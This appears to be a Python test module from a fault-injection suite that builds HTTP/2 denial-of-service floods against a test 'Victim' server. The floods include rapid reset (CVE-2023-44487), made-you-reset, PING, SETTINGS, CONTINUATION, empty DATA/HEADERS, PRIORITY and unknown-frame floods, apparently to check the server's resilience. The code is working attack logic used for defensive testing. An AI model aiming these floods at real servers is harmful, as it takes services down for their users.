"""Many small frames: each costs its sender nothing."""

from __future__ import annotations

from tests.faults.attacks.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    call_headers,
    frame,
    pour,
)
from tests.faults.attacks.victim import SERVICE, Victim

CANCEL = (8).to_bytes(4, "big")
ONE = (1).to_bytes(4, "big")


async def opens_calls_and_resets_them_at_once(victim: Victim) -> None:
    """Rapid reset, CVE-2023-44487: each call is begun on the server, and none counts as open."""
    block = call_headers(f"{SERVICE}/RunTask", ("x-api-key", victim.key))

    def call(number: int) -> bytes:
        stream = 2 * number + 1
        return frame(HEADERS, stream, block, flags=END_HEADERS) + frame(RST_STREAM, stream, CANCEL)

    await pour(victim, call)


async def opens_calls_that_the_server_must_reset(victim: Victim) -> None:
    """Made you reset, CVE-2025-8671: a window that grows by nothing is an error, and the server ends the call."""
    block = call_headers(f"{SERVICE}/RunTask", ("x-api-key", victim.key))

    def call(number: int) -> bytes:
        stream = 2 * number + 1
        return frame(HEADERS, stream, block, flags=END_HEADERS) + frame(WINDOW_UPDATE, stream, bytes(4))

    await pour(victim, call)


async def pings_without_end(victim: Victim) -> None:
    """CVE-2019-9512: each ping asks for an answer."""
    ping = frame(PING, payload=b"are you?")
    await pour(victim, lambda _: ping)


async def changes_its_settings_without_end(victim: Victim) -> None:
    """CVE-2019-9515: each change asks for an answer, and the window of all calls may change."""
    changes = [frame(SETTINGS, payload=b"\0\4" + size.to_bytes(4, "big")) for size in (65_535, 1, 2**31 - 1)]
    await pour(victim, lambda number: changes[number % len(changes)])


async def opens_its_window_by_single_bytes(victim: Victim) -> None:
    """Each frame is a reason to look at what waits to be sent."""
    update = frame(WINDOW_UPDATE, payload=ONE)
    await pour(victim, lambda _: update)


async def goes_on_with_headers_for_ever(victim: Victim) -> None:
    """CVE-2024-27316: headers that never end are kept until they do."""
    begun = frame(HEADERS, 1, call_headers(f"{SERVICE}/RunTask"))
    more = frame(CONTINUATION, 1, call_headers(f"{SERVICE}/RunTask", ("x-pad", "a" * 8000)))
    await pour(victim, lambda number: more if number else begun)


async def goes_on_with_headers_of_nothing(victim: Victim) -> None:
    """CVE-2019-9518: frames that hold nothing, and count as nothing."""
    begun, more = frame(HEADERS, 1, call_headers(f"{SERVICE}/RunTask")), frame(CONTINUATION, 1)
    await pour(victim, lambda number: more if number else begun)


async def sends_data_of_nothing(victim: Victim) -> None:
    """The same within a call."""
    begun = frame(HEADERS, 1, call_headers(f"{SERVICE}/RunTask", ("x-api-key", victim.key)), flags=END_HEADERS)
    more = frame(DATA, 1)
    await pour(victim, lambda number: more if number else begun)


async def orders_calls_that_are_not_there(victim: Victim) -> None:
    """CVE-2019-9513: a tree of priorities to be kept in order."""
    await pour(victim, lambda number: frame(PRIORITY, 2 * number + 1, (2 * number + 3).to_bytes(4, "big") + b"\xff"))


async def sends_frames_that_nobody_knows(victim: Victim) -> None:
    """They are to be passed over."""
    await pour(victim, lambda number: frame(0xB0 + number % 16, number % 3, b"what is this?"))
